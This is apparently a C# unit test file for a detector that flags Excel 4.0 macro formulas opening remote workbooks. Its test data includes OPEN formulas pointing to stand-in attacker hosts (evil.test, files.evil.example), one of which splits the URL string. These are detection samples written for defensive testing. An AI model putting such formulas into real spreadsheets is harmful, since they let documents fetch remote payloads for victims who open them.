using Sekisho.Inspection.Detection.Macros;
using Sekisho.SampleMaker;

namespace Sekisho.Inspection.Tests.Detection.Macros;

public class XlmOpensRemoteTests
{
    [Theory]
    [InlineData("OPEN(\"http\"&\"s://evil.test/a.xlsm\")", "XLM_OPENS_REMOTE")]
    [InlineData("OPEN(\"\\\\files.evil.example\\a\\b.xlsm\")", "XLM_OPENS_REMOTE")]
    [InlineData("OPEN(\"\\\\server\\share\\master.xlsx\")")]
    [InlineData("OPEN(\"C:\\master.xlsx\")")]
    [InlineData("OPEN()")]
    public void RemoteFile_IsFound(string formula, params string[] codes) => Assert.Equal(codes, Letters.Codes(new XlmOpensRemote(), "a.xlsm", XlmSamples.Package([formula, "HALT()"])));

    [Fact]
    public void FileThatNothingLeadsTo_IsForLater() => Assert.Equal(["XLM_OPENS_REMOTE_LATER"], Letters.Codes(new XlmOpensRemote(), "a.xlsm", XlmSamples.Package(["HALT()", "OPEN(\"http://evil.test/a.xlsm\")"])));

    [Fact]
    public void HarmlessMacro_IsNot() => Assert.Empty(Letters.Codes(new XlmOpensRemote(), "a.xls", XlmSamples.Hello()));
}
